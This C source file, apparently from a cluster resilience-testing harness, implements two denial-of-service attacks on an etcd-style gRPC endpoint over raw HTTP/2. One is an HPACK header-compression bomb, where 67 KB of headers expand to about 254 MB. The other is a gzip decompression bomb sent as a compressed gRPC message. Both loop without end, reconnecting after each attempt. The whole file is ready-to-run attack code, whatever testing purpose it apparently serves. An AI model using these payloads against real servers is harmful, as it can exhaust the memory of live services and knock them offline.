/* A few bytes that stand for very many. */
#include "cluster/attacks_int.h"

#include "base/gzip.h"
#include "base/mem.h"

#include <string.h>

enum {
    BOMB_INDEXES = 63000,
    BOMB_VALUE_BYTES = 4000,
    GZIP_BOMB_BYTES = 48 * 1024 * 1024, /* of zeros: 47 KB, which fit into a window */
};

/* One value as large as the table, sixty thousand times: 67 KB that stand for 254 MB. */
static void put_hpack_bomb(struct buf *block)
{
    uint8_t *value = mem_alloc(BOMB_VALUE_BYTES);
    static const uint8_t head[] = {
        0x40, 1, 'x', 0x7f, (BOMB_VALUE_BYTES - 127) % 128 | 128, (BOMB_VALUE_BYTES - 127) / 128};

    memset(value, 'y', BOMB_VALUE_BYTES);
    raw_h2_put_request(block, "/etcdserverpb.KV/Range");
    buf_append(block, bytes_of(head, sizeof(head)));
    buf_append(block, bytes_of(value, BOMB_VALUE_BYTES));
    memset(buf_extend(block, BOMB_INDEXES), 0xbe, BOMB_INDEXES); /* 62, the newest entry */
    mem_free(value);
}

void attack_by_hpack_bombs(struct attacker *a)
{
    struct buf block = {0};
    struct raw_h2 r;

    put_hpack_bomb(&block);
    for (;; attacker_pause_ms(20)) {
        if (!raw_h2_open(&r, a->context, a->ports.client, RAW_H2_WINDOW_USUAL))
            continue;
        do {
            attacker_made(a);
            attacker_pause_ms(20);
        } while (raw_h2_headers(&r, buf_bytes(&block), true) && raw_h2_drain(&r));
        raw_h2_close(&r);
    }
}

void attack_by_gzip_bombs(struct attacker *a)
{
    struct buf plain = {0}, packed = {0}, block = {0};
    struct gzip *gzip = gzip_new();
    struct raw_h2 r;

    memset(buf_extend(&plain, GZIP_BOMB_BYTES), 0, GZIP_BOMB_BYTES);
    gzip_pack(gzip, buf_bytes(&plain), &packed);
    buf_free(&plain);
    gzip_free(gzip);
    raw_h2_put_request(&block, "/etcdserverpb.KV/Put");
    raw_h2_put_field(&block, "grpc-encoding", BYTES("gzip"));
    for (;; attacker_pause_ms(50)) {
        if (!raw_h2_open(&r, a->context, a->ports.client, RAW_H2_WINDOW_USUAL))
            continue;
        if (raw_h2_headers(&r, buf_bytes(&block), false) &&
            raw_h2_message(&r, buf_bytes(&packed), true, true)) {
            attacker_made(a);
            attacker_pause_ms(50);
            (void)!raw_h2_drain(&r);
        }
        raw_h2_close(&r);
    }
}
